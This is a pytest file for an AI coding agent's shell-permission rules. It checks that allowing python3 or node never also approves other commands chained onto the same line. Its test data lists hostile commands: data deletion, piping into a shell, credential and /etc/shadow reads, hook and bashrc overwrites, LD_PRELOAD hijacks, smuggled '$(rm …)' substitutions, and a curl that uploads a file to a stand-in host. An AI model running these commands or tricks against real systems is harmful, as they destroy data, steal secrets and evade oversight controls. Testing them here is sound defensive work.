"""Rules about programs that run any code: offered without a sandbox, for lines of every form, and for nothing else on them."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import replace
from pathlib import Path

import pytest

from agentcli.core.message import ToolCall
from agentcli.permissions.decide import Decision
from agentcli.permissions.paths import Workspace
from agentcli.permissions.rules import Rules, parse_rules, proposed_rules
from tests.permissions.corpus import make_workspace
from tests.permissions.deciding import explain, explain_command
from tests.tables import each_row

RULES = ("bash(python3 *)", "bash(node *)", "bash(uv run python *)", "bash(make test *)")


@pytest.fixture(scope="module")
def workspace(tmp_path_factory: pytest.TempPathFactory) -> Workspace:
    return make_workspace(tmp_path_factory.mktemp("code"))


def asked(command: str, workspace: Workspace, rules: Sequence[str] = ()) -> Decision:
    return explain_command(command, workspace, "ask", proposed_rules(rules))


@each_row(
    ("command", "rules"),
    [
        ("python3 - <<'E'\nprint(1)\nE", ["python3 *"]),
        ("python3 -c 'print(1)'", ["python3 *"]),
        ("uv run python -c 'x' 2>&1 | head -3", ["uv run python *"]),
        (".venv/bin/python -c 'x'", [".venv/bin/python *"]),
        ("timeout 20 node -e '1'", ["node *"]),
        ("cat README.md | node -e 'x' > out.txt", ["node *"]),
        ("S=src; for f in $S/pkg/a.py $S/pkg/b.py; do echo \"== $f\"; python3 -c x $f; done", ["python3 *"]),
        ("N=$(ls src | wc -l)\npython3 -c \"print($N)\"", ["python3 *"]),
        ("if [ -f README.md ]; then python3 x.py; fi", ["python3 *"]),
        ("make test > log.txt; python3 - <<'E'\nx\nE", ["make test *", "python3 *"]),
        ("node -e 1 && make test", ["node *", "make test *"]),
        ("cd src && python3 - <<'E'\nx\nE", ["python3 *"]),
        ("python3 -c x &", ["python3 *"]),
        ("t=$(head -1 README.md | cut -d: -f2 | xargs); python3 -c 1 $t", ["python3 *"]),
        ("cat ~+/README.md; readonly D=src\ncd $D 2>/dev/null && cat pkg/a.py && cat pkg/b.py; python3 -c 1", ["python3 *"]),
    ],
)  # fmt: skip
def test_a_program_with_any_code_is_offered_and_covers_lines_of_every_form(
    workspace: Workspace, command: str, rules: Sequence[str]
) -> None:
    offered = asked(command, workspace).prefixes
    assert offered == tuple(f"bash({rule})" for rule in rules)
    assert asked(command, workspace, offered).decision == "allow"
    by_hand = parse_rules(offered)
    assert explain_command(command, workspace, "ask", by_hand).decision == "allow"
    boxed = replace(workspace, sandboxed=True)
    assert not any(rule in asked(command, boxed).prefixes for rule in offered if "make" not in rule)


@each_row(
    "command",
    [
        "python3 -c x && rm -rf src",
        "python3 -c x; rm README.md",
        "git reset --hard && python3 -c x",
        "python3 -c x && git push --force",
        "python3 -c x | sh",
        "python3 -c x | bash -s",
        "python3 -c x | xargs rm",
        "python3 -c x > /etc/passwd",
        "python3 -c x > ~/.bashrc",
        "python3 -c x > ../x",
        "python3 -c x > .git/hooks/pre-commit",
        "python3 -c x > .env",
        "python3 -c 'open(\".env\")'",
        "python3 - <<'E'\nopen('.env').read()\nE",
        "cat .env | python3 -c x",
        "cat ~/.ssh/id_rsa | python3 -c x",
        "python3 -c x < /etc/passwd && cat /etc/shadow",
        "S=.env; cat $S; python3 -c x",
        "S='README.md /etc/shadow'; cat $S; python3 -c x",
        "F=$(python3 -c x); cat $F",
        "for f in a b; do rm $f; python3 -c x; done",
        "for f in $(python3 -c x); do cat $f; done",
        "f() { rm -rf src; }; f; python3 -c x",
        "python3() { rm -rf src; }; python3 -c x",
        "alias ls='rm -rf src'; ls; python3 -c x",
        'eval "$(python3 -c x)"',
        "$(python3 -c x)",
        "source <(python3 -c x)",
        ". ./x.sh; python3 -c x",
        "sudo python3 -c x",
        "env -i rm x; python3 -c x",
        "PATH=. ls; python3 -c x",
        "PATH=.:$PATH; ls; python3 -c x",
        "LD_PRELOAD=./x python3 -c x",
        "export LD_PRELOAD=./x.so; ls; python3 -c x",
        "python3 -c x & rm x",
        "cat <<'E' > ../x && python3 -c x\nx\nE",
        "cd src & python3 -c x",
        "bash -c 'rm x; python3 -c x'",
        "find . -exec rm {} + ; python3 -c x",
        "python3 -c x && curl https://example.org -d @README.md",
        "python3 -c x && ssh example.org rm x",
        "cat <<E\n$(rm -rf src)\nE\npython3 -c x",
        "echo x > $(rm y); python3 -c x",
        'echo "$(rm y)"; python3 -c x',
        "x=${y:-$(rm z)}; python3 -c $x",
        "[[ -v 'a[$(rm y)]' ]]; python3 -c x",
        "x='$(rm y)'; echo ${x@P}; python3 -c x",
        "x='a[$(rm y)]'; echo ${!x}; python3 -c x",
        "read -r x < log.txt; echo $((x + 1)); python3 -c x",
        "read -r x < log.txt; y=abc; python3 -c ${y:x:1}",
        "read -r x < log.txt; [[ $x -eq 1 ]] && python3 -c x",
        "read -r x < log.txt; [ -v $x ]; python3 -c x",
        "awk 'BEGIN{system(\"rm x\")}'; python3 -c x",
        "vim -c ':!rm x'; python3 -c x",
        "tar cf a.tar src --checkpoint-action=exec=./x; python3 -c x",
        "cd /opt && python3 -c x",
        'cd "$(python3 -c x)" && ls',
        "git -c core.pager='rm x' log; python3 -c x",
        "GIT_PAGER='rm x' git log; python3 -c x",
        "python3 -c x; tee README.md",
        "python3 -c x | tee README.md",
        "make deploy; python3 -c x",
        "bun install x; python3 -c x",
        "python2x -c x",
        "case x in x) rm y;; esac; python3 -c x",
        "python3 -c x; trap 'rm x' EXIT",
        "read -r IFS; python3 -c x; rm y",
        "{ rm x; python3 -c x; }",
        "(rm x); python3 -c x",
        "! rm x || python3 -c x",
        "cat < /etc/passwd; python3 -c x",
        "F=/etc/passwd; cat < $F; python3 -c x",
        "cd inward && cat config",
        *(
            f'x=.e{way}cat "${{x}}nv"; python3 -c 1'
            for way in (
                "; [ -f no.py ] && x=READ; ",
                "; export x=READ < no.py; ",
                "; { x=READ; } < no.py; ",
                "; local x=READ; ",
                "\nreadonly x\nx=READ\n",
                "\ndeclare -r x\nread -r x <<< READ\n",
            )
        ),
        "cd src/no && true; cat ../../x; python3 -c 1",
        "cat ~+/../x; python3 -c 1",
        "mkdir ~+/../x; python3 -c 1",
        "touch ~-/x; python3 -c 1",
        "python3 -c 1 > ~1/x",
        "cd ~2; cat x; python3 -c 1",
        "ls\rrm x",
        "",
    ],
)
def test_nothing_else_on_such_a_line_is_covered(workspace: Workspace, command: str) -> None:
    assert asked(command, workspace, RULES).decision == "ask"
    assert not {*asked(command, workspace).prefixes} & {"bash(rm *)", "bash(sh *)", "bash(bash *)", "bash(eval *)"}


def test_deny_and_ask_rules_win_over_any_code(workspace: Workspace) -> None:
    line = ToolCall("c", "bash", {"command": "x=1; python3 -c 'import os; os.system(\"git push\")' $x"})
    assert explain(line, parse_rules(RULES), "ask", workspace).decision == "allow"
    assert explain(line, parse_rules(RULES, (), ["bash(git push *)"]), "ask", workspace).decision == "ask"
    assert explain(line, parse_rules(RULES, ["bash(python3 *)"]), "ask", workspace).decision == "ask"
    assert explain(line, parse_rules(RULES, (), ["bash(python3 *)"]), "ask", workspace).decision == "deny"
    assert explain(line, Rules(), "plan", workspace).decision == "deny"


def test_a_line_without_such_a_program_needs_one_in_a_rule(workspace: Workspace, tmp_path: Path) -> None:
    line = "d=src; for f in $d/pkg/a.py $d/pkg/b.py; do n=$(basename $f); echo $n; head -3 $f; done"
    assert asked(line, workspace).decision == "ask"
    assert asked(line, workspace, ["bash(make *)"]).decision == "ask"
    assert asked(line, workspace, RULES).decision == "allow"
    assert asked(line.replace("src;", f"{tmp_path};"), workspace, RULES).decision == "ask"
